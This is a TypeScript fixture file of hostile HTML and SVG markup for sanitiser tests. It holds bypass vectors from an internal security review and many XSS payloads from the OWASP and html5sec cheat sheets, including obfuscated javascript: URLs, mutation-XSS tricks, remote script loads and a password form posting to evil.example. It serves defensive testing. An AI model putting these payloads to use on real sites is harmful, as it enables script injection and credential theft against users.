/**
 * Hostile markup for the sanitiser tests, typed in as fixtures (no network at test time).
 *
 * - `ISSUE_18_VECTORS`: what the security review of issue 18 got past the old SVG blocklist or
 *   the Studio, in a real Chromium.
 * - `PUBLISHED_VECTORS`: a selection from the published corpora — the HTML5 Security Cheatsheet
 *   (html5sec.org) and the OWASP XSS Filter Evasion Cheat Sheet — keeping the
 *   ones that apply to HTML and SVG in a current browser (no IE-only `expression()`, VBScript or
 *   Netscape entities).
 */

export interface Vector {
  name: string;
  source: string;
}

export const ISSUE_18_VECTORS: Vector[] = [
  {
    name: "rect onmouseover (slash as separator)",
    source: '<svg><rect/onmouseover="alert(1)" width="10" height="10"/></svg>',
  },
  {
    name: "href with an entity in javascript:",
    source: '<svg><a href="jav&#x61;script:alert(1)"><text y="20">x</text></a></svg>',
  },
  {
    name: "xlink:href with a decimal entity",
    source:
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#106;avascript:alert(1)"><text y="20">x</text></a></svg>',
  },
  {
    name: "animate values javascript:",
    source:
      '<svg><a><animate attributeName="href" values="java&#x73;cript:alert(1)"/><text y="20">click</text></a></svg>',
  },
  {
    name: "style @import",
    source:
      '<svg><style>@import url(https://evil.example/x.css); title { display: none }</style><rect width="5" height="5"/></svg>',
  },
  {
    name: "image from outside",
    source: '<svg><image href=https://evil.example/beacon.png width="10" height="10"/></svg>',
  },
  {
    name: "style that hides the page",
    source: "<svg><style>body { background: red } h1, .revoke { visibility: hidden }</style></svg>",
  },
  {
    name: "form with a password input",
    source: '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>',
  },
  { name: "img from outside", source: '<img src="https://evil.example/pixel.gif" alt="">' },
  {
    name: "SVG link (must open elsewhere)",
    source: '<svg><a href="https://example.org/"><text y="20">link</text></a></svg>',
  },
  {
    name: "foreignObject with a form",
    source: '<svg><foreignObject width="100" height="50"><form><input name="x"></form></foreignObject></svg>',
  },
];

export const PUBLISHED_VECTORS: Vector[] = [
  // OWASP XSS Filter Evasion Cheat Sheet
  { name: "owasp: script tag", source: "<script>alert(1)</script>" },
  { name: "owasp: img onerror", source: "<img src=x onerror=alert(1)>" },
  { name: "owasp: img javascript src", source: '<img src="javascript:alert(1)">' },
  { name: "owasp: mixed case", source: "<IMG SRC=JaVaScRiPt:alert(1)>" },
  { name: "owasp: grave accents", source: "<img src=`javascript:alert(1)`>" },
  { name: "owasp: malformed a", source: '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>' },
  { name: "owasp: malformed img", source: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: "owasp: fromCharCode", source: "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>" },
  {
    name: "owasp: decimal entities",
    source:
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  },
  {
    name: "owasp: decimal entities without semicolons",
    source:
      "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  },
  {
    name: "owasp: hex entities",
    source:
      "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  },
  { name: "owasp: embedded tab", source: "<IMG SRC=\"jav\tascript:alert('XSS');\">" },
  { name: "owasp: embedded encoded tab", source: "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">" },
  { name: "owasp: embedded newline", source: "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">" },
  { name: "owasp: null byte", source: '<IMG SRC=java\0script:alert("XSS")>' },
  { name: "owasp: spaces and meta chars", source: "<IMG SRC=\" &#14;  javascript:alert('XSS');\">" },
  { name: "owasp: non-alpha-non-digit", source: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: "owasp: body onload with junk", source: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: "owasp: extraneous open brackets", source: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: "owasp: no closing script tag", source: "<SCRIPT SRC=http://xss.rocks/xss.js?< B >" },
  { name: "owasp: half open iframe", source: "<iframe src=http://xss.rocks/scriptlet.html <" },
  { name: "owasp: end title", source: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: "owasp: input image", source: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: "owasp: body image", source: "<BODY BACKGROUND=\"javascript:alert('XSS')\">" },
  { name: "owasp: img dynsrc", source: "<IMG DYNSRC=\"javascript:alert('XSS')\">" },
  { name: "owasp: img lowsrc", source: "<IMG LOWSRC=\"javascript:alert('XSS')\">" },
  { name: "owasp: svg onload", source: '<svg/onload=alert("XSS")>' },
  { name: "owasp: link stylesheet", source: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { name: "owasp: remote stylesheet", source: '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">' },
  { name: "owasp: style import", source: "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>" },
  { name: "owasp: meta refresh", source: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  {
    name: "owasp: meta refresh data",
    source:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  { name: "owasp: iframe javascript", source: "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>" },
  { name: "owasp: iframe event", source: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { name: "owasp: frameset", source: "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>" },
  { name: "owasp: table background", source: "<TABLE BACKGROUND=\"javascript:alert('XSS')\">" },
  { name: "owasp: td background", source: "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">" },
  { name: "owasp: div background-image", source: "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">" },
  {
    name: "owasp: div background-image unicode",
    source:
      "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
  },
  { name: "owasp: base href", source: "<BASE HREF=\"javascript:alert('XSS');//\">" },
  { name: "owasp: object", source: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>' },
  {
    name: "owasp: embed svg data",
    source:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  { name: "owasp: a href javascript", source: '<a href="javascript:alert(1)">x</a>' },
  {
    name: "owasp: a href data html",
    source: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: "owasp: script in attribute-looking text", source: '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>' },
  { name: "owasp: details ontoggle", source: "<details open ontoggle=alert(1)>" },
  { name: "owasp: video source onerror", source: "<video><source onerror=alert(1)></video>" },
  { name: "owasp: audio src onerror", source: "<audio src=x onerror=alert(1)>" },
  { name: "owasp: marquee onstart", source: "<marquee onstart=alert(1)>x</marquee>" },
  {
    name: "owasp: math href",
    source: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { name: "owasp: button formaction", source: '<form><button formaction="javascript:alert(1)">x</button></form>' },
  { name: "owasp: isindex action", source: '<isindex action="javascript:alert(1)" type="image">' },
  // HTML5 Security Cheatsheet (html5sec.org), typed from its entries
  {
    name: "html5sec: form button formaction",
    source: '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  },
  { name: "html5sec: input autofocus onfocus", source: "<input onfocus=write(1) autofocus>" },
  { name: "html5sec: select onfocus autofocus", source: "<select onfocus=javascript:alert(1) autofocus>" },
  { name: "html5sec: keygen / textarea autofocus", source: "<textarea onfocus=write(1) autofocus>" },
  { name: "html5sec: video poster", source: "<video poster=javascript:alert(1)//></video>" },
  { name: "html5sec: body onscroll", source: "<body onscroll=alert(1)><br><br><br><br><br><br>...<input autofocus>" },
  { name: "html5sec: form onforminput", source: "<form><button formaction=javascript:alert(1)>X</button>" },
  { name: "html5sec: video source onerror", source: '<video><source onerror="javascript:alert(1)">' },
  {
    name: "html5sec: iframe srcdoc",
    source: '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />',
  },
  {
    name: "html5sec: svg foreignObject iframe",
    source: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  },
  {
    name: "html5sec: svg script xlink:href",
    source: '<svg xmlns="http://www.w3.org/2000/svg"><script xlink:href="data:,alert(1)"></script></svg>',
  },
  {
    name: "html5sec: svg a xlink:href javascript",
    source:
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="1000" height="1000" fill="white"/></a></svg>',
  },
  { name: "html5sec: svg set onbegin", source: '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>' },
  {
    name: "html5sec: svg animate to javascript",
    source:
      '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?"><circle r="400"></circle><animate attributeName="xlink:href" begin="0" from="javascript:alert(1)" to="&" /></a></svg>',
  },
  {
    name: "html5sec: svg handler entity",
    source: '<svg><rect onmouseover="&#x61;lert(1)" width="10" height="10"/></svg>',
  },
  {
    name: "html5sec: svg feImage outside",
    source:
      '<svg><filter id="f"><feImage xlink:href="https://evil.example/x.svg"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  },
  { name: "html5sec: svg use external", source: '<svg><use xlink:href="https://evil.example/sprite.svg#x"/></svg>' },
  {
    name: "html5sec: svg use data",
    source:
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
  },
  {
    name: "html5sec: svg handler in CDATA",
    source: '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>',
  },
  {
    name: "html5sec: svg style with entity-escaped script",
    source: "<svg><style>&lt;img/src=x onerror=alert(1)// </b></style></svg>",
  },
  { name: "html5sec: math xlink", source: '<math href="javascript:javascript:alert(1)">CLICKME</math>' },
  { name: "html5sec: object data javascript", source: '<object data="javascript:alert(1)">' },
  { name: "html5sec: embed src javascript", source: '<embed src="javascript:alert(1)">' },
  { name: "html5sec: svg animation values", source: '<svg><animation xlink:href="javascript:alert(1)"/></svg>' },
  { name: "html5sec: svg handler on title", source: "<svg><title><img src=x onerror=alert(1)></title></svg>" },
  {
    name: "html5sec: svg filter url external",
    source: '<svg><rect filter="url(https://evil.example/f.svg#f)" width="9" height="9"/></svg>',
  },
  {
    name: "html5sec: mask url external",
    source: '<svg><rect mask="url(\'https://evil.example/m.svg#m\')" width="9" height="9"/></svg>',
  },
  { name: "html5sec: noscript closing", source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  {
    name: "html5sec: svg entity-wrapped handler",
    source: "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
  },
  { name: "html5sec: xmp breakout", source: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  {
    name: "html5sec: svg xml:base",
    source: '<svg xml:base="javascript:alert(1)//"><a xlink:href="#"><text y="9">x</text></a></svg>',
  },
  { name: "html5sec: svg image onerror", source: '<svg><image href="x" onerror="alert(1)"/></svg>' },
  {
    name: "html5sec: a with data svg",
    source: '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>',
  },
  { name: "html5sec: classjacking id", source: '<div id="app" name="app"><a href="#" id="cookie">x</a></div>' },
  { name: "html5sec: template content", source: "<template><img src=x onerror=alert(1)></template>" },
  { name: "html5sec: mXSS comment", source: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: "html5sec: mXSS title in svg", source: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: "html5sec: mXSS math mglyph",
    source: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  },
  {
    name: "html5sec: animate attributeName href",
    source: '<svg><a><animate attributeName="href" to="javascript:alert(1)" begin="0"/><text y="20">x</text></a></svg>',
  },
  { name: "html5sec: link target opener", source: '<a href="https://example.org/" target="_self">x</a>' },
  {
    name: "html5sec: contenteditable style",
    source: '<div contenteditable style="-webkit-user-modify:read-write" onfocus="alert(1)">x</div>',
  },
  { name: "html5sec: svg onbegin", source: "<svg><animate onbegin=alert(1) attributeName=x dur=1s>" },
  { name: "html5sec: svg discard onbegin", source: "<svg><discard onbegin=alert(1)>" },
  {
    name: "html5sec: svg handle in a",
    source:
      '<svg><a><rect width="100%" height="100%" /><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  },
  {
    name: "html5sec: cursor url",
    source: '<svg><rect cursor="url(https://evil.example/c.cur), auto" width="9" height="9"/></svg>',
  },
  { name: "html5sec: srcset", source: '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">' },
  {
    name: "html5sec: picture source",
    source: '<picture><source srcset="https://evil.example/a.png"><img src="x"></picture>',
  },
  { name: "html5sec: link prefetch", source: '<link rel="prefetch" href="https://evil.example/">' },
  { name: "html5sec: a ping", source: '<a href="https://example.org/" ping="https://evil.example/ping">x</a>' },
  {
    name: "html5sec: svg fill url external",
    source: '<svg><rect fill="url(https://evil.example/p.svg#p)" width="9" height="9"/></svg>',
  },
];
